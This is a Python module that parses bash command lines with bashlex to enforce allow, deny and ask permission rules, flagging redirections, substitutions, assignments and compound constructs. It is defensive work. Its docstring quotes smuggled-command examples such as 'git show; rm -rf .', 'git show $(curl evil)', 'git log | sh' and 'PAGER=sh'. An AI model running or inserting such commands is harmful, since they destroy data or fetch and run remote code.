"""What a ``bash`` command line really runs, read the way bash reads it (``bashlex``).

A rule such as ``Bash(git show:*)`` is a promise about *programs*, not about a string prefix:
``git show > ~/.ssh/x``, ``git show; rm -rf .``, ``git show $(curl evil)``, backticks and
``git log | sh`` all start with an allowed prefix and do something else. :func:`analyse`
splits a command line into its simple commands (``[["git", "show"], ["rm", "-rf", "."]]``)
and says whether anything *besides* those commands would happen — a redirection into a file,
a command or process substitution, an assignment that changes how a program behaves
(``PAGER=sh``, ``GIT_SSH_COMMAND=…``), a loop, a function, a here-document. An allow rule may
only match a :attr:`ShellAnalysis.plain` command; a deny or ask rule matches any command
found anywhere in the line, substitutions included.

Words come back as bash would pass them (quotes removed), so ``'git' "show"`` is
``["git", "show"]`` and quoting cannot dodge a rule.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any

#: ``$X``, ``${X}``, ``$1``, ``$@``: a plain parameter. ``${X:-$(rm x)}`` is not — bashlex does
#: not look inside an expansion's operators, so anything past a name counts as a problem.
_PLAIN_PARAMETER = re.compile(r"^(?:[A-Za-z_][A-Za-z0-9_]*|[0-9]+|[@*#?$!-])$")
#: Redirection targets that change nothing outside the command.
_HARMLESS_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr"})
_LIST_OPERATORS = frozenset({";", "&&", "||", "&", "\n"})


@dataclass
class ShellAnalysis:
    """The outcome of :func:`analyse`."""

    commands: list[list[str]] = field(default_factory=list)
    """Every simple command's words, in order, including commands nested in substitutions."""
    problems: list[str] = field(default_factory=list)
    """Why the line is not *plain*: each construct that does more than run its commands."""
    parsed: bool = True
    """False when bashlex could not read the line; then nothing is known about it."""
    raw: list[list[str]] = field(default_factory=list)
    """Each command's words as written (quotes kept), parallel to :attr:`commands`: whether a
    ``*`` or ``{`` was quoted decides whether bash expands it into other words."""
    source: str = field(default="", repr=False)

    @property
    def plain(self) -> bool:
        """Parsed, and nothing happens but its simple commands (an allow rule may match)."""
        return self.parsed and not self.problems and bool(self.commands)


def analyse(command: str) -> ShellAnalysis:
    """Split ``command`` into simple commands and list the constructs that do more."""
    import bashlex  # here, not at import: its parser tables cost ~80 ms of every start-up

    result = ShellAnalysis(source=command)
    try:
        trees = bashlex.parse(command)
    except Exception:  # bashlex fails in many ways (ParsingError, AttributeError on "", …)
        result.parsed = False
        return result
    for tree in trees:
        _walk(tree, result)
    return result


def _walk(node: Any, out: ShellAnalysis) -> None:
    kind = getattr(node, "kind", "")
    if kind == "list":
        for part in node.parts:
            if getattr(part, "kind", "") == "operator":
                if part.op not in _LIST_OPERATORS:
                    out.problems.append(f"operator {part.op!r}")
            else:
                _walk(part, out)
    elif kind == "pipeline":
        for part in node.parts:
            if getattr(part, "kind", "") != "pipe":
                _walk(part, out)
    elif kind == "command":
        _command(node, out)
    else:  # for/while/if/function/compound ({ }, ( )): more than simple commands
        out.problems.append(f"{kind or 'unknown'} construct")
        for child in _children(node):
            _walk(child, out)


def _command(node: Any, out: ShellAnalysis) -> None:
    words: list[str] = []
    raw: list[str] = []
    for part in node.parts:
        kind = getattr(part, "kind", "")
        if kind == "word":
            _word(part, out)
            words.append(part.word)
            start, end = part.pos
            raw.append(out.source[start:end])
        elif kind == "assignment":
            out.problems.append(f"variable assignment {part.word.split('=', 1)[0]}=")
            _word(part, out)
        elif kind == "redirect":
            _redirect(part, out)
        else:
            out.problems.append(f"{kind or 'unknown'} in a command")
            for child in _children(part):
                _walk(child, out)
    if words:
        out.commands.append(words)
        out.raw.append(raw)


def _word(node: Any, out: ShellAnalysis) -> None:
    """Plain parameters and ``~`` only shape arguments; substitutions run programs."""
    for part in getattr(node, "parts", []) or []:
        kind = getattr(part, "kind", "")
        if kind == "tilde":
            continue
        if kind == "parameter":
            if not _PLAIN_PARAMETER.match(part.value):
                out.problems.append(f"parameter expansion ${{{part.value}}}")
        elif kind in ("commandsubstitution", "processsubstitution"):
            out.problems.append(kind.replace("substitution", " substitution"))
            _walk(part.command, out)
        else:
            out.problems.append(f"{kind or 'unknown'} in a word")


def _redirect(node: Any, out: ShellAnalysis) -> None:
    if getattr(node, "heredoc", None) is not None or node.type in ("<<", "<<-", "<<<"):
        out.problems.append("here-document")
        return
    target = node.output
    if isinstance(target, int):  # 2>&1: one stream joined to another
        return
    _word(target, out)
    if getattr(target, "word", None) not in _HARMLESS_TARGETS:
        out.problems.append(f"redirection {node.type} {getattr(target, 'word', '?')}")


def _children(node: Any) -> list[Any]:
    import bashlex.ast

    children: list[Any] = []
    for name in ("parts", "list"):
        value = getattr(node, name, None)
        if isinstance(value, list):
            children.extend(v for v in value if isinstance(v, bashlex.ast.node))
    for name in ("command", "output"):
        value = getattr(node, name, None)
        if isinstance(value, bashlex.ast.node):
            children.append(value)
    return [c for c in children if getattr(c, "kind", "") not in ("reservedword", "operator")]
